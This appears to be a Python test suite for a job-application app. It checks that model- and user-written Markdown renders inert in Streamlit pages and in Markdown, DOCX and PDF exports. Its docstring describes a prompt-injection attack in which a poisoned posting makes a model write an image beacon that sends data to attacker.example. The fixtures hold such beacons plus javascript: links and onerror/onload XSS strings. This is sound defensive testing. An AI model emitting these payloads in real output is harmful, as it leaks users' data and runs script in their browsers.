"""Model and user text is rendered inert: in the pages (AppTest) and in the downloads.

The attack: a prompt-injected posting makes a model write ``![](http://attacker.example/x.png?d=…)``
into a job field or a document; rendered as Markdown, the browser would fetch it and leak data.
Checked here: no image, raw HTML, reference definition or javascript:/data: link survives
``safe_markdown``; labels built from such text show it literally; DOCX and PDF embed no image and
carry no link; the stored text is never changed.

``problems`` states the invariants on Markdown *source* that, by the CommonMark rules, rule out
those constructs: an image needs an unescaped ``![``, raw HTML and autolinks an unescaped ``<``, a
reference definition an unescaped ``]:``, and an inline link an unescaped ``](`` followed by its
destination.
"""

from __future__ import annotations

import io
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from orchestrator import exports
from orchestrator.safe_markdown import WORD_JOINER, plain_label, safe_link, safe_markdown
from orchestrator.services.user import documents
from tests.app.user_support import open_page, saved_job

BEACON = "![](http://attacker.example/x.png?d=secret)"
HOSTILE_DOC = f"""# Frida Früh
{BEACON}
Contact: [email me](mailto:frida@example.com) · [portfolio](https://frida.example/work)
[click](javascript:alert(1)) [upper](JaVaScRiPt:alert(2)) [data](data:text/html;base64,PHNjcmlwdD4=)
[spaced](javascript:void 0) [tab](java&#9;script:alert(3)) [pointy](<javascript:alert(4)>)
<img src=x onerror=alert(1)>
![ref beacon][b] and ![b]

[b]: http://attacker.example/ref.png?d=secret
<http://attacker.example/autolink> ![a[nested]b](http://attacker.example/n.png)
:red[PWNED] :material/warning: $x^2$

## Experience
- **Python** and *SQL* at [Acme](https://acme.example)
"""
HOSTILE_TITLE = "Engineer ![](http://attacker.example/t.png?d=secret) <img src=x onerror=alert(1)> :red[PWNED]"
HOSTILE_COMPANY = "Acme [x](javascript:alert(1)) $x^2$ :material/bolt:"
HOSTILE_SKILLS = ["![](http://attacker.example/s.png?d=secret)", "<img src=x>", ":blue[big] $y$", "Python"]

_SAFE_DEST = re.compile(r"(?:https?://|mailto:|tel:)", re.IGNORECASE)


def _escaped(text: str, i: int) -> bool:
    run = 0
    while i - run - 1 >= 0 and text[i - run - 1] == "\\":
        run += 1
    return run % 2 == 1


def problems(md: str, *, streamlit: bool = False) -> list[str]:
    """What in Markdown source could load an image, inject HTML or carry an unsafe link."""
    found = []
    for i, ch in enumerate(md):
        if _escaped(md, i):
            continue
        nxt = md[i + 1:i + 2]
        if ch == "!" and nxt == "[":
            found.append(f"image opener at {i}: {md[i:i + 40]!r}")
        elif ch == "<":
            found.append(f"raw < at {i}: {md[i:i + 40]!r}")
        elif ch == "]" and nxt == ":":
            found.append(f"reference definition at {i}: {md[i:i + 40]!r}")
        elif ch == "]" and nxt == "(":
            dest = re.sub(r"^[ \t]*(?:\n[ \t]*)?", "", md[i + 2:])
            if not _SAFE_DEST.match(dest):
                found.append(f"unsafe link at {i}: {md[i:i + 40]!r}")
        elif streamlit and ch == "$":
            found.append(f"LaTeX $ at {i}")
        elif streamlit and ch == ":" and re.match(r"[A-Za-z][\w-]*[\[{]", md[i + 1:]):
            found.append(f"directive at {i}: {md[i:i + 20]!r}")
    if streamlit and re.search(r":(?:material[/_]|streamlit:)", md):
        found.append("icon shortcode")
    return found


# ----------------------------------------------------------------------------- safe_markdown


HOSTILE = [
    BEACON,
    "![alt](https://attacker.example/x.png \"title\")",
    "![a[b]c](http://attacker.example/x.png)",
    "![alt\nsplit](http://attacker.example/x.png)",
    "![alt][ref]\n\n[ref]: http://attacker.example/x.png",
    "![ref]\n\n   [ref]:\n  <http://attacker.example/x.png>",
    "> [ref]: http://attacker.example/x.png\n\n![ref][]",
    "[x](javascript:alert(1))", "[x]( javascript:alert(1))", "[x](\njavascript:alert(1))",
    "[x](<javascript:alert(1)>)", "[x](java&#9;script:alert(1))", "[x](javascript&colon;alert(1))",
    "[x](java\\script:alert(1))", "[x](vbscript:msgbox(1))", "[x](data:text/html,<script>alert(1)</script>)",
    "[x](//attacker.example/x)", "[x](/relative)", "[x](#anchor)", "[x]()",
    "[a [b](javascript:alert(1)) c](https://ok.example)",
    "<img src=x onerror=alert(1)>", "<a href='javascript:alert(1)'>x</a>", "<!-- c -->", "<?php ?>",
    "<http://attacker.example/x>", "<javascript:alert(1)>", "<svg/onload=alert(1)>", "\\\\<img src=x>",
    "\\![x](data:image/png;base64,AAAA)", "&#33;[x](http://attacker.example/x.png)",
    "[![inner](http://attacker.example/i.png)](https://ok.example)",
    ":red[PWNED] :help[tip] :color[x]{foreground=red} ::leaf[x]",
    ":material/warning: :material_warning: :streamlit: $x$ $$\\int$$",
    "`<img src=x>` ``![](http://attacker.example/x.png)``", "```\n<img src=x>\n```",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_is_made_inert(text):
    assert problems(safe_markdown(text), streamlit=True) == []
    assert problems(safe_markdown(text, streamlit=False)) == []


def test_the_beacon_becomes_visible_text():
    assert safe_markdown(BEACON) == "(image not shown: http://attacker.example/x.png?d=secret)"
    assert safe_markdown("![logo](https://x.example/l.png)") == "logo (image not shown: https://x.example/l.png)"


def test_unsafe_links_show_as_text_and_safe_ones_stay():
    assert safe_markdown("[x](javascript:alert(1))") == "[x\\](javascript:alert(1))"
    for ok in ("[a](https://x.example/p?q=1)", "[a](http://x.example)", "[a](mailto:me@x.example)",
               "[a](tel:+4930123)", "[a](HTTPS://X.EXAMPLE/a(b)c)"):
        assert safe_markdown(ok) == ok


def test_raw_html_is_escaped_not_dropped():
    assert safe_markdown("<img src=x onerror=alert(1)>") == "\\<img src=x onerror=alert(1)>"
    assert safe_markdown("a < b and \\<b>") == "a \\< b and \\<b>"


def test_streamlit_syntax_is_escaped_only_for_streamlit():
    text = ":red[PWNED] :material/bolt: $x^2$"
    assert safe_markdown(text) == f"\\:red[PWNED] :{WORD_JOINER}material/bolt: \\$x^2\\$"
    assert safe_markdown(text, streamlit=False) == text


CV = """# Frida Früh
**Junior Data Analyst**  
Berlin · frida@example.com · [github.com/frida](https://github.com/frida) · +49 30 1234

## Profile
Applying for the **Senior Python Engineer** role at Acme — salary €70,000–€90,000, Zürich/Łódź ok.

## Experience
### Data Analyst — Stadtwerke
*2024-03 – 2025-02* · _Berlin_
- Built dashboards with *Power BI* for 40 managers (3x faster!)
- Cut report time by 6 h/week using [pandas](https://pandas.pydata.org)
  - nested detail: ETL, 99.9% uptime
1. first numbered
2. second numbered

> A quote from a reference.

| Skill | Level |
|-------|-------|
| SQL   | ***expert*** |

---
Snake_case_names and 2 * 3 = 6 stay literal; so does a -- double dash. Contact: [mail](mailto:f@example.com)
"""


@pytest.mark.parametrize("streamlit", [True, False])
def test_ordinary_cv_markdown_is_unchanged(streamlit):
    assert safe_markdown(CV, streamlit=streamlit) == CV


MARKDOWNISH = st.sampled_from(["![", "[", "]", "](", "]:", "(", ")", "<", ">", "!", "\\", "\n", " ", "\t", "`",
                               "javascript:", "JAVASCRIPT:", "http://attacker.example/x.png", "https://ok.example",
                               "data:", "mailto:", "&#9;", "&colon;", ":red[", ":material/", "$", "img src=x", "\"t\""])
FUZZ = st.lists(MARKDOWNISH | st.text(max_size=4), max_size=30).map("".join)


@settings(max_examples=200, deadline=None, database=None)
@given(FUZZ)
def test_property_any_text_is_inert_and_sanitising_is_idempotent(text):
    for mode in (True, False):
        once = safe_markdown(text, streamlit=mode)
        assert problems(once, streamlit=mode) == []
        assert safe_markdown(once, streamlit=mode) == once
        assert not re.search(r"(?<!\\)!\[[^\]]*\]\(\s*<?\s*(?:https?:)?//", once)
        assert not re.search(r"(?<!\\)\]\(\s*<?\s*javascript:", once, re.IGNORECASE)


# ------------------------------------------------------------------------------ plain_label


@pytest.mark.parametrize("text", [HOSTILE_TITLE, HOSTILE_COMPANY, *HOSTILE_SKILLS, "# heading", "1. item",
                                  "- item", "> quote", "**bold** _it_ ~~strike~~ `code`", "a\n\n# b\n<img>",
                                  "&lt;img&gt; \\*", ":streamlit: :material_bolt:", "x:help[tip]"])
def test_labels_interpret_nothing(text):
    label = plain_label(text)
    assert "\n" not in label
    assert problems(label, streamlit=True) == []
    assert not re.search(r"(?<!\\)[*`~\[\]]", label)
    assert not re.match(r"(?:[#>+\-=]|\d+[.)])", label)


@pytest.mark.parametrize("text", ["Senior Python Engineer · Acme Analytics GmbH", "C++ / Go (m/f/d)",
                                  "snake_case and invalid_key", "Berlin, Germany", "Offline engine (built-in)"])
def test_ordinary_labels_read_unchanged(text):
    assert plain_label(text) == text


def test_safe_link_keeps_web_links_only():
    assert safe_link("source", "https://jobs.example/1?a=b") == "[source](https://jobs.example/1?a=b)"
    assert safe_link("source", "https://jobs.example/a (b)") == "source (https://jobs.example/a (b))"
    assert safe_link("source", "https://jobs.example/a(b)[c]") == "[source](https://jobs.example/a%28b%29%5Bc%5D)"
    assert safe_link("source", "javascript:alert(1)") == "source (javascript:alert(1))"


# ----------------------------------------------------------------------------------- the pages


def rendered(at) -> list[str]:
    """Every Markdown source the page sent to the browser, labels included."""
    out = []
    for kind in ("markdown", "caption", "subheader", "title", "error", "warning", "info", "success", "toast"):
        out += [e.value for e in getattr(at, kind)]
    return out + [s.label for s in at.status] + [e.label for e in at.expander]


def assert_inert(at) -> None:
    assert not at.exception, at.exception
    texts = rendered(at)
    bad = {t: problems(t) for t in texts if problems(t)}
    assert bad == {}
    joined = "\n".join(texts)
    for payload in (":red[", ":blue[big", ":material/bolt", ":material/warning", "$x^2", "$y$"):
        assert not re.search(r"(?<!\\)" + re.escape(payload), joined), payload


def _hostile_job(orch, email: str = "free@example.com") -> int:
    job_id = saved_job(orch, email)
    job = documents.get_job(orch, user=email, job_id=job_id)
    posting = job.posting.model_copy(update={"title": HOSTILE_TITLE, "company": HOSTILE_COMPANY,
                                             "location": BEACON, "skills": HOSTILE_SKILLS})
    documents.update_job(orch, user=email, job_id=job_id, posting=posting)
    return job_id


def _hostile_document(orch, job_id: int, email: str = "free@example.com") -> int:
    doc_id = orch.run("draft_cv", user=email, job_id=job_id).document_id
    return documents.update_document(orch, user=email, document_id=doc_id, content=HOSTILE_DOC).id  # a new version


def test_documents_page_renders_a_hostile_document_inertly(app_env):
    doc_id = _hostile_document(app_env, _hostile_job(app_env))
    at = open_page("free@example.com", "documents")
    assert_inert(at)
    body = [m.value for m in at.tabs[0].markdown if "image not shown" in m.value]
    assert body and "[portfolio](https://frida.example/work)" in body[0] and "- **Python**" in body[0]
    assert "http://attacker.example/x.png?d=secret" in body[0]  # shown as text, not loaded
    assert "\\<img src=x" in body[0] and "[click\\](javascript:alert(1))" in body[0]
    assert any(HOSTILE_TITLE.split()[0] in s.value for s in at.subheader)
    # The stored text is the user's, unchanged.
    assert documents.get_document(app_env, user="free@example.com", document_id=doc_id).content == \
        HOSTILE_DOC.strip()


def test_documents_page_jobs_tab_shows_hostile_fields_as_text(app_env):
    _hostile_job(app_env)
    at = open_page("free@example.com", "documents")
    assert_inert(at)
    heads = [s.value for s in at.subheader if s.value.startswith("Engineer")]
    assert heads == [plain_label(f"{HOSTILE_TITLE} · {HOSTILE_COMPANY}")]


def test_drafting_page_streams_and_previews_inertly(app_env):
    job_id = _hostile_job(app_env)
    at = open_page("free@example.com", "cv")
    at.button(key="draft_cv_go").click().run()
    assert_inert(at)  # the streamed text (written from the hostile job) and the preview
    streamed = [m.value for m in at.status[0].markdown]
    assert streamed and "attacker.example" in streamed[-1]
    _hostile_document(app_env, job_id)
    at = open_page("free@example.com", "cv")
    assert_inert(at)
    assert any("(image not shown: http://attacker.example/x.png?d=secret)" in m.value for m in at.markdown)


def test_extract_page_shows_hostile_job_fields_as_text(app_env):
    at = open_page("free@example.com", "extract")
    at.text_area(key="extract_text").input("Senior Python Engineer\nAcme Analytics GmbH\nPython, SQL").run()
    at.button(key="extract_go").click().run()
    job_id = documents.list_jobs(app_env, user="free@example.com")[0].id
    job = documents.get_job(app_env, user="free@example.com", job_id=job_id)
    documents.update_job(app_env, user="free@example.com", job_id=job_id, posting=job.posting.model_copy(
        update={"title": HOSTILE_TITLE, "company": HOSTILE_COMPANY, "location": BEACON, "skills": HOSTILE_SKILLS}))
    at.run()
    assert_inert(at)
    assert at.subheader[0].value == plain_label(f"{HOSTILE_TITLE} · {HOSTILE_COMPANY}")
    badges = "\n".join(m.value for m in at.markdown if "-badge[" in m.value)
    assert ":blue-badge[Python]" in badges and "image not shown" not in badges and "\\<img src=x>" in badges


def test_recently_saved_jobs_are_plain_text(app_env):
    _hostile_job(app_env)
    assert_inert(open_page("free@example.com", "extract"))


# ---------------------------------------------------------------------------------- the exports


def test_markdown_download_is_sanitised():
    text = exports.export(HOSTILE_DOC, fmt="md", title="CV").decode()
    assert problems(text) == []
    assert "(image not shown: http://attacker.example/x.png?d=secret)" in text
    assert "[portfolio](https://frida.example/work)" in text and ":red[PWNED]" in text  # not Streamlit


def test_docx_embeds_no_image_and_links_nothing():
    import docx
    from docx.opc.constants import RELATIONSHIP_TYPE as RT

    data = exports.export(HOSTILE_DOC, fmt="docx", title="CV")
    document = docx.Document(io.BytesIO(data))
    rels = list(document.part.rels.values())
    assert not [r for r in rels if r.reltype in (RT.IMAGE, RT.HYPERLINK) or r.is_external]
    images = {str(p.partname) for p in document.part.package.iter_parts() if p.content_type.startswith("image/")}
    assert images <= {"/docProps/thumbnail.jpeg"}  # python-docx's template preview, the same for every file
    assert len(document.inline_shapes) == 0
    xml = document.element.xml
    assert "<w:hyperlink" not in xml and "<w:drawing" not in xml and "imagedata" not in xml
    text = "\n".join(p.text for p in document.paragraphs)
    assert "(image not shown: http://attacker.example/x.png?d=secret)" in text
    assert "[click](javascript:alert(1))" in text and "<img src=x onerror=alert(1)>" in text  # literal text


def test_pdf_has_no_link_actions_and_no_images():
    from pypdf import PdfReader

    data = exports.export(HOSTILE_DOC, fmt="pdf", title="CV")
    reader = PdfReader(io.BytesIO(data))
    for page in reader.pages:
        for annot in page.get("/Annots") or []:
            action = annot.get_object().get("/A") or {}
            assert "/URI" not in action, action
        xobjects = page["/Resources"].get("/XObject") or {}
        assert not [x for x in xobjects.values() if x.get_object().get("/Subtype") == "/Image"]
    assert b"/URI" not in data
    text = " ".join(page.extract_text() for page in reader.pages)
    assert "image not shown" in text and "javascript:void 0" in text


def test_pdf_text_that_looks_like_a_link_is_not_linked():
    """fpdf2 links ``[text](target)`` even after a backslash; the writer keeps it text."""
    from pypdf import PdfReader

    data = exports.to_pdf("[a](javascript:void 0) \\[b](1) **[c](javascript:x)**", "x")
    reader = PdfReader(io.BytesIO(data))
    assert all(not page.get("/Annots") for page in reader.pages)
    assert b"/URI" not in data


def test_control_characters_cannot_break_the_word_download():
    import docx

    data = exports.export("# Title\x0b\n- item\x00 one\x01", fmt="docx", title="CV\x0b")
    assert [p.text for p in docx.Document(io.BytesIO(data)).paragraphs] == ["Title", "item one"]
